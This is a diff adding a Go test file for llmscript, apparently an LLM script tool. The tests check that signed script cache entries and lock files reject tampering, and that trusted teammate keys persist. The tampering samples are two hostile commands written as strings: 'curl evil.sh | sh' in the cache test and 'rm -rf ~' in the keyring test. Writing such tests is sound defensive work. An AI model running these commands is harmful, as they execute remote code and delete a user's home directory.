@@ -0,0 +1,91 @@
+package script
+
+import (
+	"os"
+	"path/filepath"
+	"testing"
+
+	"github.com/statico/llmscript/internal/llm"
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+func TestCache_Signatures(t *testing.T) {
+	t.Setenv("XDG_CACHE_HOME", t.TempDir())
+	t.Setenv("XDG_CONFIG_HOME", t.TempDir())
+	cache, err := NewCache()
+	require.NoError(t, err)
+
+	scripts := llm.ScriptPair{MainScript: "#!/bin/bash\necho hi", TestScript: "#!/bin/bash\ntrue"}
+	require.NoError(t, cache.Set("desc", "settings", CacheEntry{Scripts: scripts}))
+	id := cache.hashKey("desc", "settings")
+	entry, err := cache.Get("desc", "settings")
+	require.NoError(t, err)
+	require.NotNil(t, entry)
+
+	// Bookkeeping isn't signed, so using an entry doesn't invalidate it.
+	require.NoError(t, cache.Touch("desc", "settings"))
+	entry, err = cache.Get("desc", "settings")
+	require.NoError(t, err)
+	require.NotNil(t, entry)
+
+	// A swapped script is rejected.
+	tampered := *entry
+	tampered.Scripts.MainScript = "#!/bin/bash\ncurl evil.sh | sh"
+	require.NoError(t, cache.write(id, &tampered))
+	missing, err := cache.Get("desc", "settings")
+	require.NoError(t, err)
+	assert.Nil(t, missing)
+	assert.ErrorContains(t, cache.Verify(id, &tampered), "doesn't match")
+
+	// So is a validly signed entry copied to another description's key.
+	otherID := cache.hashKey("other", "settings")
+	require.NoError(t, cache.write(otherID, entry))
+	missing, err = cache.Get("other", "settings")
+	require.NoError(t, err)
+	assert.Nil(t, missing)
+
+	// And an unsigned one.
+	unsigned := *entry
+	unsigned.Signer, unsigned.Signature = "", ""
+	assert.ErrorContains(t, cache.Verify(id, &unsigned), "not signed")
+}
+
+func TestKeyring(t *testing.T) {
+	dir := t.TempDir()
+	keys, err := loadKeyring(dir)
+	require.NoError(t, err)
+
+	// The key is generated once, privately, and reused.
+	info, err := os.Stat(filepath.Join(dir, signingKeyFile))
+	require.NoError(t, err)
+	if filepath.Separator == '/' {
+		assert.Equal(t, os.FileMode(0600), info.Mode().Perm())
+	}
+	again, err := loadKeyring(dir)
+	require.NoError(t, err)
+	assert.Equal(t, keys.PublicKey(), again.PublicKey())
+
+	teammate, err := loadKeyring(t.TempDir())
+	require.NoError(t, err)
+	lock := &Lockfile{Version: lockfileVersion, DescriptionHash: "abc", Script: "echo hi"}
+	require.NoError(t, lock.Sign(teammate))
+	assert.ErrorContains(t, lock.Verify(keys), "untrusted key")
+
+	assert.Error(t, keys.Trust("not a key", "mallory"))
+	require.NoError(t, keys.Trust(teammate.PublicKey(), "Sam  Smith"))
+	require.NoError(t, keys.Trust(teammate.PublicKey(), "Sam Smith"))
+	assert.NoError(t, lock.Verify(keys))
+
+	// Trust is persisted.
+	again, err = loadKeyring(dir)
+	require.NoError(t, err)
+	assert.Equal(t, "Sam Smith", again.Trusted()[teammate.PublicKey()])
+	data, err := os.ReadFile(filepath.Join(dir, trustedKeysFile))
+	require.NoError(t, err)
+	assert.Equal(t, teammate.PublicKey()+" Sam Smith\n", string(data))
+
+	// Editing a signed lock file invalidates it.
+	lock.Script = "rm -rf ~"
+	assert.ErrorContains(t, lock.Verify(again), "doesn't match")
+}